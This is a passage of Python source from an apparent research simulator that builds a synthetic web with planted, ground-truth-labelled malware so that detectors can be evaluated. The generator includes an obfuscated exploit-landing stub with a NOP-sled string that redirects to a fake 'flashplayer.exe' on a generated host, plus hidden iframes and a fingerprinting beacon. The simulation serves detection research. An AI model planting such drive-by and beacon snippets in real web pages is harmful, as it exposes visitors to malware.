        if not authority:
            raise UrlError("URL %r has no host" % raw)
        if "@" in authority:  # drop userinfo; the study never uses it
            authority = authority.rpartition("@")[2]

        host, _, port_text = authority.partition(":")
        host = host.lower().rstrip(".")
        if not host:
            raise UrlError("URL %r has no host" % raw)
        port: Optional[int] = None
        if port_text:
            if not port_text.isdigit():
                raise UrlError("URL %r has a non-numeric port" % raw)
            port = int(port_text)
            if not 0 < port < 65536:
                raise UrlError("URL %r port out of range" % raw)
        return cls(scheme=scheme, host=host, port=port, path=path, query=query, fragment=fragment)

    @classmethod
    def try_parse(cls, raw: str) -> Optional["Url"]:
        """Like :meth:`parse` but returns ``None`` on failure."""
        try:
            return cls.parse(raw)
        except UrlError:
            return None

    # ------------------------------------------------------------------
    # Serialization
    # ------------------------------------------------------------------
    def __str__(self) -> str:
        out = ["%s://%s" % (self.scheme, self.host)]
        if self.port is not None and self.port != _DEFAULT_PORTS.get(self.scheme):
            out.append(":%d" % self.port)
        out.append(self.path or "/")
        if self.query:
            out.append("?" + self.query)
        if self.fragment:
            out.append("#" + self.fragment)
        return "".join(out)

    # ------------------------------------------------------------------
    # Derived views
    # ------------------------------------------------------------------
    @property
    def effective_port(self) -> int:
        """The port actually used for the connection."""
        if self.port is not None:
            return self.port
        return _DEFAULT_PORTS.get(self.scheme, 80)

    @property
    def origin(self) -> str:
        """scheme://host[:port] — the security origin."""
        port = self.effective_port
        if port == _DEFAULT_PORTS.get(self.scheme):
            return "%s://%s" % (self.scheme, self.host)
        return "%s://%s:%d" % (self.scheme, self.host, port)

    @property
    def tld(self) -> str:
        """The final DNS label (Figure 6 groups malicious URLs by this)."""
        return self.host.rpartition(".")[2]

    @property
    def registrable_domain(self) -> str:
        """The registrable ("pay-level") domain, e.g. ``example.co.uk``.

        Per-domain statistics (Table II) aggregate URLs by this value.
        IP-address hosts are returned unchanged.
        """
        labels = self.host.split(".")
        if len(labels) <= 2 or all(label.isdigit() for label in labels):
            return self.host
        # try longest matching multi-label suffix
        for take in (3, 2):
            if len(labels) > take:
                suffix = ".".join(labels[-take:])
                if suffix in _MULTI_LABEL_SUFFIXES:
                    return ".".join(labels[-(take + 1) :])
        return ".".join(labels[-2:])

    @property
    def query_pairs(self) -> List[Tuple[str, str]]:
        return parse_query(self.query)

    @property
    def query_dict(self) -> Dict[str, str]:
        """Query parameters as a dict (last value wins on duplicates)."""
        return dict(self.query_pairs)

    @property
    def filename(self) -> str:
        """The final path segment, e.g. ``a.swf`` for ``/x/a.swf``."""
        return self.path.rpartition("/")[2]

    @property
    def extension(self) -> str:
        """Lower-cased extension of :attr:`filename` (no dot), or ``""``."""
        name = self.filename
        if "." not in name:
            return ""
        return name.rpartition(".")[2].lower()

    # ------------------------------------------------------------------
    # Operations
    # ------------------------------------------------------------------
    def normalized(self) -> "Url":
        """Return a canonical form: no default port, non-empty path."""
        return replace(
            self,
            port=None if self.port == _DEFAULT_PORTS.get(self.scheme) else self.port,
            path=self.path or "/",
            fragment="",
        )

    def with_path(self, path: str) -> "Url":
        if not path.startswith("/"):
            path = "/" + path
        return replace(self, path=path)

    def with_query(self, query: str) -> "Url":
        return replace(self, query=query)

    def with_params(self, params: Dict[str, str]) -> "Url":
        pairs = [(k, v) for k, v in self.query_pairs if k not in params]
        pairs.extend(sorted(params.items()))
        return replace(self, query=encode_query(pairs))

    def join(self, reference: str) -> "Url":
        """Resolve ``reference`` against this URL (subset of RFC 3986 §5)."""
        reference = reference.strip()
        if not reference:
            return replace(self, fragment="")
        if "://" in reference.split("#")[0].split("?")[0]:
            return Url.parse(reference)
        if reference.startswith("//"):
            return Url.parse(self.scheme + ":" + reference)
        ref_path, _, fragment = reference.partition("#")
        ref_path, _, query = ref_path.partition("?")
        if not ref_path:
            return replace(self, query=query or self.query, fragment=fragment)
        if ref_path.startswith("/"):
            merged = ref_path
        else:
            base_dir = self.path.rpartition("/")[0]
            merged = base_dir + "/" + ref_path
        return replace(self, path=_remove_dot_segments(merged), query=query, fragment=fragment)

    def same_site(self, other: "Url") -> bool:
        """True when both URLs share a registrable domain."""
        return self.registrable_domain == other.registrable_domain


def _remove_dot_segments(path: str) -> str:
    output: List[str] = []
    for segment in path.split("/"):
        if segment == ".":
            continue
        if segment == "..":
            if len(output) > 1:
                output.pop()
            continue
        output.append(segment)
    if path.endswith(("/.", "/..")):
        output.append("")
    result = "/".join(output)
    if not result.startswith("/"):
        result = "/" + result
    return result
