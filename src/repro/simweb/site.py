"""Site, page, and resource models for the synthetic web.

A :class:`Site` owns pages and sub-resources under one host, plus an
optional :class:`ServerBehavior` describing server-side tricks (redirect
chains, cloaking) that the HTTP layer enacts.  Every planted malware
artifact carries a :class:`GroundTruth` record — the generator's own
label, used *only* for evaluating detectors and in tests; scanners never
see it.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from .categories import ContentCategory

__all__ = [
    "MalwareFamily",
    "GroundTruth",
    "Resource",
    "Page",
    "RedirectHop",
    "ServerBehavior",
    "Site",
]


class MalwareFamily(str, enum.Enum):
    """Ground-truth malware families planted by the generator.

    These map onto the paper's malware categories (Table III) and case
    studies (Section V).
    """

    IFRAME_TINY = "iframe_tiny"                    # V-A category 1: 1x1 iframe
    IFRAME_INVISIBLE = "iframe_invisible"          # V-A category 2: hidden + exfil
    IFRAME_JS_INJECTED = "iframe_js_injected"      # V-A category 3: document.write
    DECEPTIVE_DOWNLOAD = "deceptive_download"      # V-B: fake Flash-Player prompt
    SUSPICIOUS_REDIRECT = "suspicious_redirect"    # V-C: server-side redirector
    MALICIOUS_JS_FILE = "malicious_js_file"        # standalone .js payloads
    MALICIOUS_FLASH = "malicious_flash"            # V-D: ExternalInterface SWF
    BLACKLISTED_HOST = "blacklisted_host"          # IV-A3: known-bad domain
    MALICIOUS_SHORTENED = "malicious_shortened"    # IV-A5: flagged short URL
    FINGERPRINTING = "fingerprinting"              # IV-A1: behaviour recording

    def __str__(self) -> str:  # pragma: no cover - cosmetic
        return self.value


@dataclass
class GroundTruth:
    """Generator-side record of what was planted where."""

    malicious: bool
    family: Optional[MalwareFamily] = None
    detail: str = ""
    benign_lookalike: bool = False  # crafted FP bait (Section V-E)


@dataclass
class Resource:
    """A non-page asset: script, SWF, image, executable payload."""

    path: str
    content_type: str
    body: bytes
    truth: GroundTruth = field(default_factory=lambda: GroundTruth(False))

    @property
    def text(self) -> str:
        return self.body.decode("utf-8", errors="replace")


@dataclass
class Page:
    """An HTML page served at ``path`` on its site."""

    path: str
    title: str
    html: str
    truth: GroundTruth = field(default_factory=lambda: GroundTruth(False))
    #: absolute URLs of sub-resources the page loads (crawler logs these,
    #: mirroring Firebug capturing every request)
    subresource_urls: List[str] = field(default_factory=list)


@dataclass
class RedirectHop:
    """One hop of a server-side redirect chain."""

    location: str
    status: int = 302
    mechanism: str = "http"  # "http" | "meta" | "js"


@dataclass
class ServerBehavior:
    """Server-side behaviours the HTTP layer enforces for a site."""

    #: path -> the redirect hop served there (multi-hop chains emerge from
    #: following hops across sites, Figure 4)
    redirects: Dict[str, RedirectHop] = field(default_factory=dict)
    #: paths that serve benign content to URL scanners (cloaking): a fetch
    #: without a referrer (how URL-based scanners fetch) sees
    #: ``cloaked_paths[path]``; a browser-like client arriving from an
    #: exchange sees the real page (Section III footnote 1)
    cloaked_paths: Dict[str, str] = field(default_factory=dict)
    #: rotating redirect targets: path -> list of candidate next URLs; the
    #: server picks a different target per request (Figure 9)
    rotating_redirects: Dict[str, List[str]] = field(default_factory=dict)
    #: Set-Cookie header value served with a path's response (session
    #: cookies on exchange pages, tracker cookies on ad slots)
    set_cookies: Dict[str, str] = field(default_factory=dict)


@dataclass
class Site:
    """A host in the synthetic web with its pages and resources."""

    host: str
    category: ContentCategory
    truth: GroundTruth
    pages: Dict[str, Page] = field(default_factory=dict)
    resources: Dict[str, Resource] = field(default_factory=dict)
    behavior: ServerBehavior = field(default_factory=ServerBehavior)
    #: relative popularity inside an exchange's rotation (campaign boosts)
    weight: float = 1.0

    @property
    def malicious(self) -> bool:
        return self.truth.malicious

    @property
    def family(self) -> Optional[MalwareFamily]:
        return self.truth.family

    def add_page(self, page: Page) -> Page:
        self.pages[page.path] = page
        return page

    def add_resource(self, resource: Resource) -> Resource:
        self.resources[resource.path] = resource
        return resource

    def url(self, path: str = "/", scheme: str = "http") -> str:
        if not path.startswith("/"):
            path = "/" + path
        return "%s://%s%s" % (scheme, self.host, path)

    def lookup(self, path: str) -> Tuple[Optional[Page], Optional[Resource]]:
        """Find what is served at ``path`` (page first, then resource)."""
        page = self.pages.get(path)
        if page is None and path in ("", "/"):
            # root falls back to the first page (sites always have one)
            if self.pages:
                page = next(iter(self.pages.values()))
        return page, self.resources.get(path)
