"""Popular-site catalog and referral classification.

Section III-A: the crawl logs contained frequent appearances of popular
websites (Google, Facebook, YouTube ...) — "popular referrals" — and of
the exchanges' own homepages — "self-referrals".  Both are excluded from
the malware analysis.  This module carries the popular-domain catalog
and the classification helpers the analysis pipeline uses.
"""

from __future__ import annotations

from typing import Iterable, Optional, Set

from .url import Url

__all__ = [
    "POPULAR_DOMAINS",
    "BENIGN_INFRA_DOMAINS",
    "is_popular_url",
    "is_self_referral",
]

#: Popular destinations traffic exchanges point at to garner bogus
#: content views (the paper names Google, Facebook, and YouTube).
POPULAR_DOMAINS: Set[str] = {
    "google.com",
    "facebook.com",
    "youtube.com",
    "twitter.com",
    "wikipedia.org",
    "yahoo.com",
    "amazon.com",
    "instagram.com",
}

#: Benign infrastructure domains that appear across most exchanges but do
#: NOT count as popular referrals (Table II explicitly keeps
#: ajax.googleapis.com inside the per-domain statistics).
BENIGN_INFRA_DOMAINS: Set[str] = {
    "ajax.googleapis.com",
    "fonts.googleapis.com",
    "cdn.jsdelivr.example",
    "www.google-analytics.com",
    "accounts.google.com",
}

_POPULAR_PATH_HINTS = ("/watch", "/results", "/search", "/profile")


def is_popular_url(url: Url, extra_popular: Optional[Iterable[str]] = None) -> bool:
    """True when ``url`` is a popular-referral destination.

    Infrastructure subdomains (ajax.googleapis.com, google-analytics)
    are *not* popular referrals even though their registrable domain is
    popular — they are sub-resources of regular pages.
    """
    if url.host in BENIGN_INFRA_DOMAINS:
        return False
    domains = set(POPULAR_DOMAINS)
    if extra_popular:
        domains.update(extra_popular)
    return url.registrable_domain in domains


def is_self_referral(url: Url, exchange_hosts: Iterable[str]) -> bool:
    """True when ``url`` points back at one of the exchanges themselves."""
    host = url.host
    registrable = url.registrable_domain
    for exchange_host in exchange_hosts:
        exchange_registrable = Url.parse("http://%s/" % exchange_host).registrable_domain
        if host == exchange_host or registrable == exchange_registrable:
            return True
    return False
