"""Synthetic web generator.

Builds the study's world: per-exchange pools of member sites (benign and
malicious, calibrated from Tables I-II), the shared infrastructure the
crawl observes across all exchanges (ajax.googleapis.com and friends,
the AdHitz-like ad network, popular destinations), malware-hosting
domains used as hidden-iframe targets, redirect-bridge hosts, payload
hosts, and shortener entries.

Every malicious artifact is planted by the :mod:`repro.malware`
generators and therefore *actually works* in the analysis sandboxes;
ground truth lives only in ``Site.truth``/``Page.truth`` for evaluation.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Tuple

from ..exchanges.roster import EXCHANGE_PROFILES, ExchangeProfile
from ..malware import (
    ad_placeholder,
    benign_helper_script,
    benign_looking_include,
    build_chain,
    build_flash_ad_kit,
    deceptive_download_bar,
    fingerprinting_script,
    google_analytics_snippet,
    google_oauth_relay_iframe,
    invisible_iframe,
    js_injected_iframe,
    make_executable,
    obfuscate,
    paragraphs,
    random_layers,
    redirect_script_body,
    rotating_targets,
    tiny_iframe,
)
from .categories import (
    BENIGN_CATEGORY_SAMPLER,
    CATEGORY_TOPICS,
    MALICIOUS_CATEGORY_SAMPLER,
    ContentCategory,
)
from .naming import NameForge
from .registry import WebRegistry
from .site import GroundTruth, MalwareFamily, Page, Resource, Site
from .tlds import BENIGN_TLD_WEIGHTS, MALICIOUS_TLD_WEIGHTS, WeightedChoice

__all__ = ["WebGenerationConfig", "ExchangePool", "GeneratedWeb", "WebGenerator"]

#: mix of ground-truth families among malicious member sites, tuned so the
#: analysis pipeline's Table III comes out paper-shaped
DEFAULT_FAMILY_WEIGHTS: Dict[MalwareFamily, float] = {
    MalwareFamily.IFRAME_TINY: 16.0,
    MalwareFamily.IFRAME_INVISIBLE: 12.0,
    MalwareFamily.IFRAME_JS_INJECTED: 20.0,
    MalwareFamily.DECEPTIVE_DOWNLOAD: 16.0,
    MalwareFamily.FINGERPRINTING: 10.0,
    MalwareFamily.BLACKLISTED_HOST: 21.0,
    MalwareFamily.MALICIOUS_JS_FILE: 17.0,
    MalwareFamily.SUSPICIOUS_REDIRECT: 3.5,
    MalwareFamily.MALICIOUS_SHORTENED: 0.3,
    MalwareFamily.MALICIOUS_FLASH: 0.6,
}


@dataclass
class WebGenerationConfig:
    """Knobs for the synthetic web."""

    seed: int = 2016
    scale: float = 0.05
    family_weights: Dict[MalwareFamily, float] = field(
        default_factory=lambda: dict(DEFAULT_FAMILY_WEIGHTS)
    )
    pages_per_site: Tuple[int, int] = (1, 3)
    #: benign-page dressing rates
    ga_snippet_rate: float = 0.30
    ad_slot_rate: float = 0.35
    oauth_bait_rate: float = 0.03
    #: how many shared "notorious" malicious domains appear across pools
    shared_malicious_sites: int = 6
    #: pool of dedicated malware-hosting domains (iframe targets)
    malware_host_count: int = 24
    #: redirect-bridge intermediary hosts (admarketplace-like)
    bridge_host_count: int = 6
    #: payload-hosting domains (yupfiles-like)
    payload_host_count: int = 4
    redirect_chain_lengths: Tuple[int, ...] = (1, 1, 2, 2, 2, 3, 3, 4, 5, 6, 7)


@dataclass
class ExchangePool:
    """One exchange's member-site roster."""

    profile: ExchangeProfile
    benign: List[Site] = field(default_factory=list)
    malicious: List[Site] = field(default_factory=list)

    @property
    def sites(self) -> List[Site]:
        return self.benign + self.malicious


@dataclass
class GeneratedWeb:
    """Everything the generator produced."""

    registry: WebRegistry
    config: WebGenerationConfig
    pools: Dict[str, ExchangePool] = field(default_factory=dict)
    malware_hosts: List[Site] = field(default_factory=list)
    bridge_hosts: List[str] = field(default_factory=list)
    payload_hosts: List[Site] = field(default_factory=list)
    ad_network_host: str = ""
    #: domains blacklist maintainers know about (curated bad population)
    known_bad_domains: List[str] = field(default_factory=list)
    #: long-notorious domains guaranteed onto several blacklists
    notorious_domains: List[str] = field(default_factory=list)
    popular_urls: List[str] = field(default_factory=list)

    def pool(self, exchange_name: str) -> ExchangePool:
        return self.pools[exchange_name]

    @property
    def benign_domains(self) -> List[str]:
        return [s.host for s in self.registry.sites(malicious=False)]


class WebGenerator:
    """Builds a :class:`GeneratedWeb` from a config."""

    #: the named bad domains from Section IV-A3 (seeded as notorious)
    NAMED_BAD_DOMAINS = ("luckyleap.net", "visadd.com", "380tl.com", "promo.esy.es", "stats.atw.hu", "counter.yadro.ru")

    def __init__(self, config: Optional[WebGenerationConfig] = None,
                 profiles: Sequence[ExchangeProfile] = EXCHANGE_PROFILES) -> None:
        self.config = config or WebGenerationConfig()
        self.profiles = list(profiles)
        self.rng = random.Random(self.config.seed)
        self.forge = NameForge(self.rng)
        self._benign_tlds = WeightedChoice(BENIGN_TLD_WEIGHTS)
        self._malicious_tlds = WeightedChoice(MALICIOUS_TLD_WEIGHTS)
        self._family_sampler = WeightedChoice(
            {f.value: w for f, w in self.config.family_weights.items()}
        )

    # ------------------------------------------------------------------
    def build(self) -> GeneratedWeb:
        registry = WebRegistry(self.rng)
        web = GeneratedWeb(registry=registry, config=self.config)

        self._build_infrastructure(web)
        self._build_popular_sites(web)
        self._build_malware_hosts(web)
        self._build_payload_hosts(web)
        self._build_bridges(web)

        shared_malicious = self._build_shared_malicious(web)
        for prof in self.profiles:
            web.pools[prof.name] = self._build_pool(web, prof, shared_malicious)
        return web

    # ------------------------------------------------------------------
    # Infrastructure
    # ------------------------------------------------------------------
    def _build_infrastructure(self, web: GeneratedWeb) -> None:
        registry = web.registry
        analytics = Site("www.google-analytics.com", ContentCategory.INFORMATION_TECHNOLOGY,
                         GroundTruth(False))
        analytics.add_resource(Resource("/analytics.js", "application/javascript",
                                        b"(function(){/* analytics bootstrap */})();"))
        registry.add(analytics)

        ajax = Site("ajax.googleapis.com", ContentCategory.INFORMATION_TECHNOLOGY, GroundTruth(False))
        ajax.add_resource(Resource("/ajax/libs/jquery/1.11.3/jquery.min.js",
                                   "application/javascript", b"/* jquery (simulated) */"))
        registry.add(ajax)

        accounts = Site("accounts.google.com", ContentCategory.INFORMATION_TECHNOLOGY, GroundTruth(False))
        accounts.add_page(Page("/o/oauth2/postmessageRelay", "OAuth Relay",
                               "<html><body><script>var relay = true;</script></body></html>"))
        registry.add(accounts)

        ad_network = Site("adhitzads.com", ContentCategory.ADVERTISEMENT, GroundTruth(False))
        ad_network.add_resource(Resource(
            "/show.js", "application/javascript",
            b"document.write('<div class=\"sponsored\">sponsored banner</div>');",
        ))
        registry.add(ad_network)
        web.ad_network_host = ad_network.host

    def _build_popular_sites(self, web: GeneratedWeb) -> None:
        for host, title in (
            ("www.google.com", "Google"),
            ("www.facebook.com", "Facebook"),
            ("www.youtube.com", "YouTube"),
        ):
            site = Site(host, ContentCategory.SOCIAL, GroundTruth(False))
            site.add_page(Page("/", title, "<html><head><title>%s</title></head>"
                                            "<body><h1>%s</h1></body></html>" % (title, title)))
            web.registry.add(site)
            web.popular_urls.append(site.url("/"))
        # video watch pages — exchanges point at these for bogus views
        web.popular_urls.append("http://www.youtube.com/")
        web.popular_urls.append("http://www.google.com/")

    def _build_malware_hosts(self, web: GeneratedWeb) -> None:
        """Dedicated malware-hosting domains: hidden-iframe targets.

        Only the long-notorious named domains are known to blacklist
        maintainers; the rest are *fresh* hosts that content scanners
        must catch on their own — they land in the miscellaneous bucket
        of Table III, like the paper's un-drilldown-able majority.
        """
        hosts: List[str] = list(self.NAMED_BAD_DOMAINS)
        while len(hosts) < self.config.malware_host_count:
            hosts.append(self.forge.domain("other", self._malicious_tlds.sample(self.rng)))
        for host in hosts:
            established = host in self.NAMED_BAD_DOMAINS
            site = Site(host, ContentCategory.ADVERTISEMENT,
                        GroundTruth(True, MalwareFamily.BLACKLISTED_HOST, "malware host"))
            exploit = self._exploit_landing_html(host)
            site.add_page(Page("/", "untitled", exploit,
                               GroundTruth(True, MalwareFamily.BLACKLISTED_HOST, "exploit landing")))
            site.add_page(Page("/ai.aspx", "untitled", exploit,
                               GroundTruth(True, MalwareFamily.BLACKLISTED_HOST, "exploit landing")))
            web.registry.add(site)
            web.malware_hosts.append(site)
            if established:
                web.known_bad_domains.append(host)
        web.notorious_domains.extend(self.NAMED_BAD_DOMAINS)

    def _exploit_landing_html(self, host: str) -> str:
        """What a malware-hosting page serves: packed exploit JS."""
        payload_js = (
            "var sc = unescape('%%u9090%%u9090'); "
            "window.location.href = 'http://%s/flashplayer.exe';" % host
        )
        packed = obfuscate(payload_js, random_layers(self.rng, 2), self.rng)
        return "<html><body><script>%s</script></body></html>" % packed

    def _build_payload_hosts(self, web: GeneratedWeb) -> None:
        for index in range(self.config.payload_host_count):
            host = "cdn%d.yupfiles%s.net" % (index, self.forge.token(3))
            site = Site(host, ContentCategory.INFORMATION_TECHNOLOGY,
                        GroundTruth(True, MalwareFamily.DECEPTIVE_DOWNLOAD, "payload host"))
            for name in ("flashplayer.exe", "Flash-Player.exe", "video_codec.exe"):
                site.add_resource(Resource(
                    "/files/" + name, "application/x-msdownload",
                    make_executable(self.rng, malicious=True),
                    GroundTruth(True, MalwareFamily.DECEPTIVE_DOWNLOAD, "payload"),
                ))
            web.registry.add(site)
            web.payload_hosts.append(site)
            web.known_bad_domains.append(host)

    def _build_bridges(self, web: GeneratedWeb) -> None:
        """Ad-bridge hosts whose paths 302 onward (chain intermediaries).

        The redirect targets are registered lazily when chains are built;
        here we only mint the hosts.
        """
        for index in range(self.config.bridge_host_count):
            host = "bridge%d.%s.net" % (index, self.forge.token(4))
            site = Site(host, ContentCategory.ADVERTISEMENT,
                        GroundTruth(True, MalwareFamily.SUSPICIOUS_REDIRECT, "redirect bridge"))
            web.registry.add(site)
            web.bridge_hosts.append(host)

    # ------------------------------------------------------------------
    # Member sites
    # ------------------------------------------------------------------
    def _build_shared_malicious(self, web: GeneratedWeb) -> List[Site]:
        """Malicious member sites listed on several exchanges.

        The paper observes domains like visadd.com across most
        exchanges; they are *fresh* malware (content-detected), not
        blacklist entries — listing them everywhere is how they spread.
        """
        shared: List[Site] = []
        for index in range(self.config.shared_malicious_sites):
            family = (MalwareFamily.IFRAME_TINY if index % 2 == 0
                      else MalwareFamily.IFRAME_JS_INJECTED)
            shared.append(self._make_malicious_site(web, family))
        return shared

    def _build_pool(self, web: GeneratedWeb, prof: ExchangeProfile,
                    shared_malicious: List[Site]) -> ExchangePool:
        pool = ExchangePool(profile=prof)
        domains = prof.scaled_domains(self.config.scale)
        malicious_count = max(2, round(domains * prof.malicious_domain_rate))
        benign_count = max(10, domains - malicious_count)

        for _ in range(benign_count):
            pool.benign.append(self._make_benign_site(web))

        pool.malicious.extend(shared_malicious)
        self._category_quota: List[str] = []
        remaining = max(0, malicious_count - len(shared_malicious))
        # large pools always carry the rare families so every exchange's
        # data contains shortened/flash/redirect examples (as the paper's
        # Table IV rows span many exchanges)
        guaranteed: List[MalwareFamily] = []
        if remaining >= 8:
            guaranteed = [
                MalwareFamily.MALICIOUS_SHORTENED,
                MalwareFamily.MALICIOUS_FLASH,
                MalwareFamily.SUSPICIOUS_REDIRECT,
            ]
        self._category_quota = self._allocate_categories(remaining)
        for family in guaranteed:
            pool.malicious.append(self._make_malicious_site(web, family))
        for family in self._allocate_families(remaining - len(guaranteed)):
            pool.malicious.append(self._make_malicious_site(web, family))
        return pool

    def _allocate_categories(self, count: int) -> List[str]:
        """Stratified content-category allocation for malicious sites.

        Keeps every pool's category mix on the Figure 7 shape instead of
        leaving it to small-sample luck (SendSurf's handful of malicious
        sites carries half the malicious traffic).
        """
        from .categories import MALICIOUS_CATEGORY_WEIGHTS

        if count <= 0:
            return []
        total = sum(MALICIOUS_CATEGORY_WEIGHTS.values())
        quotas = {c: count * w / total for c, w in MALICIOUS_CATEGORY_WEIGHTS.items()}
        allocated = {c: int(q) for c, q in quotas.items()}
        leftover = count - sum(allocated.values())
        for category, _q in sorted(quotas.items(), key=lambda kv: kv[1] - int(kv[1]), reverse=True):
            if leftover <= 0:
                break
            allocated[category] += 1
            leftover -= 1
        out: List[str] = []
        for category, n in allocated.items():
            out.extend([category] * n)
        self.rng.shuffle(out)
        return out

    def _allocate_families(self, count: int) -> List[MalwareFamily]:
        """Stratified family allocation (largest-remainder method).

        Independent sampling makes small pools (SendSurf lists few
        malicious domains but they dominate its traffic) wildly variable
        in family mix, which distorts the global Table III; proportional
        allocation keeps every pool on the configured mix.
        """
        if count <= 0:
            return []
        weights = self.config.family_weights
        total = sum(weights.values())
        quotas = {f: count * w / total for f, w in weights.items()}
        allocated = {f: int(q) for f, q in quotas.items()}
        leftover = count - sum(allocated.values())
        for family, _q in sorted(quotas.items(), key=lambda kv: kv[1] - int(kv[1]), reverse=True):
            if leftover <= 0:
                break
            allocated[family] += 1
            leftover -= 1
        out: List[MalwareFamily] = []
        for family, n in allocated.items():
            out.extend([family] * n)
        self.rng.shuffle(out)
        return out

    # -- benign ------------------------------------------------------------
    def _make_benign_site(self, web: GeneratedWeb) -> Site:
        category = ContentCategory(BENIGN_CATEGORY_SAMPLER.sample(self.rng))
        host = self.forge.domain(category.value, self._benign_tlds.sample(self.rng))
        site = Site(host, category, GroundTruth(False))
        page_count = self.rng.randrange(*self.config.pages_per_site) if self.config.pages_per_site[1] > self.config.pages_per_site[0] else 1
        for index in range(max(1, page_count)):
            path = "/" if index == 0 else self.forge.path()
            site.add_page(self._benign_page(web, site, path))
        web.registry.add(site)
        return site

    def _benign_page(self, web: GeneratedWeb, site: Site, path: str) -> Page:
        topic = self.rng.choice(CATEGORY_TOPICS[site.category.value])
        title = self.forge.title(site.host, topic)
        parts: List[str] = [paragraphs(self.rng, topic, count=self.rng.randrange(2, 5))]
        subresources: List[str] = []
        truth = GroundTruth(False)

        if self.rng.random() < self.config.ad_slot_rate:
            parts.append(ad_placeholder(self.rng, "http://%s" % web.ad_network_host))
            subresources.append("http://%s/show.js?slot=1" % web.ad_network_host)
        if self.rng.random() < self.config.ga_snippet_rate:
            parts.append(google_analytics_snippet(self.rng))
            subresources.append("http://www.google-analytics.com/analytics.js")
        if self.rng.random() < self.config.oauth_bait_rate:
            parts.append(google_oauth_relay_iframe(self.rng, site.url(path)))
            subresources.append(
                "https://accounts.google.com/o/oauth2/postmessageRelay?parent=%s" % site.host
            )
            truth = GroundTruth(False, benign_lookalike=True)
        if self.rng.random() < 0.4:
            parts.append(benign_helper_script(self.rng))

        html = self._page_shell(title, topic, "\n".join(parts))
        return Page(path=path, title=title, html=html, truth=truth,
                    subresource_urls=subresources)

    @staticmethod
    def _page_shell(title: str, topic: str, body: str) -> str:
        return (
            "<html><head><title>%s</title><meta name=\"keywords\" content=\"%s\"></head>"
            "<body><h1>%s</h1>\n%s\n</body></html>" % (title, topic, title, body)
        )

    # -- malicious -----------------------------------------------------------
    def _make_malicious_site(self, web: GeneratedWeb, family: MalwareFamily) -> Site:
        if getattr(self, "_category_quota", None):
            category = ContentCategory(self._category_quota.pop())
        else:
            category = ContentCategory(MALICIOUS_CATEGORY_SAMPLER.sample(self.rng))
        host = self.forge.domain(category.value, self._malicious_tlds.sample(self.rng))
        site = Site(host, category, GroundTruth(True, family))
        builder = {
            MalwareFamily.IFRAME_TINY: self._fill_iframe_site,
            MalwareFamily.IFRAME_INVISIBLE: self._fill_iframe_site,
            MalwareFamily.IFRAME_JS_INJECTED: self._fill_iframe_site,
            MalwareFamily.DECEPTIVE_DOWNLOAD: self._fill_download_site,
            MalwareFamily.FINGERPRINTING: self._fill_fingerprinting_site,
            MalwareFamily.BLACKLISTED_HOST: self._fill_blacklisted_site,
            MalwareFamily.MALICIOUS_JS_FILE: self._fill_js_file_site,
            MalwareFamily.SUSPICIOUS_REDIRECT: self._fill_redirector_site,
            MalwareFamily.MALICIOUS_SHORTENED: self._fill_shortened_site,
            MalwareFamily.MALICIOUS_FLASH: self._fill_flash_site,
        }[family]
        builder(web, site, family)
        web.registry.add(site)
        return site

    def _malicious_base_parts(self, web: GeneratedWeb, site: Site) -> Tuple[List[str], List[str]]:
        """Benign-looking dressing shared by malicious member pages."""
        topic = self.rng.choice(CATEGORY_TOPICS[site.category.value])
        parts = [paragraphs(self.rng, topic, count=2)]
        subresources: List[str] = []
        if self.rng.random() < 0.5:
            parts.append(ad_placeholder(self.rng, "http://%s" % web.ad_network_host))
            subresources.append("http://%s/show.js?slot=2" % web.ad_network_host)
        return parts, subresources

    def _frame_target_url(self, web: GeneratedWeb) -> str:
        host_site = self.rng.choice(web.malware_hosts)
        path = "/" if self.rng.random() < 0.5 else "/ai.aspx"
        return host_site.url(path)

    def _fill_iframe_site(self, web: GeneratedWeb, site: Site, family: MalwareFamily) -> None:
        parts, subresources = self._malicious_base_parts(web, site)
        target = self._frame_target_url(web)
        if family is MalwareFamily.IFRAME_TINY:
            snippet = tiny_iframe(self.rng, target)
        elif family is MalwareFamily.IFRAME_INVISIBLE:
            snippet = invisible_iframe(self.rng, target, exfiltrate=self.rng.random() < 0.6)
        else:
            snippet = js_injected_iframe(
                self.rng, target, obfuscation_depth=self.rng.randrange(1, 4),
                beacon_url=("%s1x1.gif" % target.rsplit("/", 1)[0] + "/") if self.rng.random() < 0.4 else None,
            )
        parts.append(snippet.html)
        subresources.append(snippet.frame_src)
        topic = self.rng.choice(CATEGORY_TOPICS[site.category.value])
        page = Page(
            path="/", title=self.forge.title(site.host, topic),
            html=self._page_shell(self.forge.title(site.host, topic), topic, "\n".join(parts)),
            truth=GroundTruth(True, family, snippet.hidden_mechanism),
            subresource_urls=subresources,
        )
        site.add_page(page)

    def _fill_download_site(self, web: GeneratedWeb, site: Site, family: MalwareFamily) -> None:
        parts, subresources = self._malicious_base_parts(web, site)
        payload_host = self.rng.choice(web.payload_hosts)
        payload_url = payload_host.url("/files/flashplayer.exe")
        lure = deceptive_download_bar(self.rng, payload_url)
        parts.append(lure.html)
        topic = self.rng.choice(CATEGORY_TOPICS[site.category.value])
        site.add_page(Page(
            path="/", title=self.forge.title(site.host, topic),
            html=self._page_shell(self.forge.title(site.host, topic), topic, "\n".join(parts)),
            truth=GroundTruth(True, family, lure.payload_name),
            subresource_urls=subresources,
        ))

    def _fill_fingerprinting_site(self, web: GeneratedWeb, site: Site, family: MalwareFamily) -> None:
        parts, subresources = self._malicious_base_parts(web, site)
        beacon_host = self.rng.choice(web.malware_hosts).host
        snippet = fingerprinting_script(
            self.rng, "http://%s/collect.gif" % beacon_host,
            obfuscation_depth=self.rng.randrange(0, 2),
        )
        parts.append(snippet)
        topic = self.rng.choice(CATEGORY_TOPICS[site.category.value])
        site.add_page(Page(
            path="/", title=self.forge.title(site.host, topic),
            html=self._page_shell(self.forge.title(site.host, topic), topic, "\n".join(parts)),
            truth=GroundTruth(True, family, "mouse fingerprinting"),
            subresource_urls=subresources,
        ))

    def _fill_blacklisted_site(self, web: GeneratedWeb, site: Site, family: MalwareFamily) -> None:
        """An established bad domain: pages look ordinary; one or two also
        carry light malware.  The domain itself goes to the curated bad
        population that blacklists sample from."""
        parts, subresources = self._malicious_base_parts(web, site)
        topic = self.rng.choice(CATEGORY_TOPICS[site.category.value])
        if self.rng.random() < 0.5:
            target = self._frame_target_url(web)
            snippet = tiny_iframe(self.rng, target)
            parts.append(snippet.html)
            subresources.append(snippet.frame_src)
